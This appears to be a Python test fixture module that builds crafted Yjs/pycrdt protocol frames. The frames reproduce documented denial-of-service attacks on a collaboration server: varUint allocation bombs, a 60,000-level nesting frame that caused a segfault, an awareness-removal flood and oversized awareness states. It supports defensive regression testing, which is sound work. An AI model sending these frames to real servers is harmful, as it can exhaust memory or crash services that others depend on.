"""Frames of the attacks in issue 13, for the hostile-client tests and ``attack_bench``.

Each was reproduced against the server with nothing but a view token (unless noted);
docs/security.md says what stops it now.
"""

from __future__ import annotations

from functools import cache
from pathlib import Path

from pycrdt import write_var_uint

HUGE = 2**28


def sync_frame(sub: int, payload: bytes) -> bytes:
    """A sync frame (0 SyncStep1, 1 SyncStep2, 2 Update) around ``payload``."""
    return bytes([0, sub]) + write_var_uint(len(payload)) + payload


def awareness(entries: list[tuple[int, int, str]]) -> bytes:
    """An awareness frame of ``(client id, clock, JSON text)`` entries."""
    parts = [write_var_uint(len(entries))]
    for client_id, clock, state in entries:
        raw = state.encode()
        parts += [write_var_uint(client_id), write_var_uint(clock), write_var_uint(len(raw)), raw]
    payload = b"".join(parts)
    return b"\x01" + write_var_uint(len(payload)) + payload


def _string(text: str) -> bytes:
    raw = text.encode()
    return write_var_uint(len(raw)) + raw


def any_item(content: bytes) -> bytes:
    """An update with one struct of client 7 setting map ``m`` key ``k`` to Any ``content``."""
    return b"\x01\x01\x07\x00\x28\x01" + _string("m") + _string("k") + b"\x01" + content + b"\x00"


# 8 bytes: pycrdt sized a table of 2**28 entries first (0.4-0.7 s, 0.5 GB)
STATE_VECTOR_BOMB = sync_frame(0, write_var_uint(HUGE))
CLIENT_COUNT_BOMB = sync_frame(1, write_var_uint(HUGE))  # the same through an update
OBJECT_BOMB = sync_frame(2, any_item(b"\x76" + write_var_uint(HUGE // 2)))  # edit token
DEEP_NESTING = sync_frame(1, any_item(b"\x75\x01" * 60_000 + b"\x7e"))  # 120 KB: a segfault


@cache
def _low_id_bytes(count: int) -> list[bytes]:
    """The first three varUint bytes of ids ``i + batch * 2**21`` for i < ``count``."""
    return [
        bytes((i & 0x7F | 0x80, (i >> 7) & 0x7F | 0x80, (i >> 14) | 0x80)) for i in range(count)
    ]


def null_flood(batch: int, count: int = 170_000) -> bytes:
    """Removals of ``count`` client ids never seen (~1.5 MB; ``batch`` 1-127 picks which
    ids, so each batch is fresh): each removal used to stay in the table for good.
    Joined in C (every id's varUint ends with the batch byte), so a flooder keeps up."""
    if not 0 < batch < 128 or count > 2**21:
        raise ValueError("batch 1-127, count up to 2**21")
    tail = bytes([batch]) + b"\x01\x04null"
    payload = write_var_uint(count) + tail.join(_low_id_bytes(count)) + tail
    return b"\x01" + write_var_uint(len(payload)) + payload


def big_states(first_id: int, count: int = 30, size: int = 64 * 1024) -> bytes:
    """``count`` states of ``size`` bytes for fresh ids: each joiner was sent them all."""
    state = '{"x":"' + "x" * (size - 8) + '"}'
    return awareness([(first_id + i, 1, state) for i in range(count)])


def memory_mb(pid: int, field: str = "VmRSS") -> float:
    """A process's resident memory (``VmRSS``) or its peak (``VmHWM``) in MB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) / 1024
    raise ValueError(f"no {field} for process {pid}")


def reset_peak(pid: int) -> None:
    """Reset the process's ``VmHWM`` to its current RSS (Linux ≥ 4.0, ``clear_refs`` 5), so
    that the next peak belongs to what happens next."""
    Path(f"/proc/{pid}/clear_refs").write_text("5")
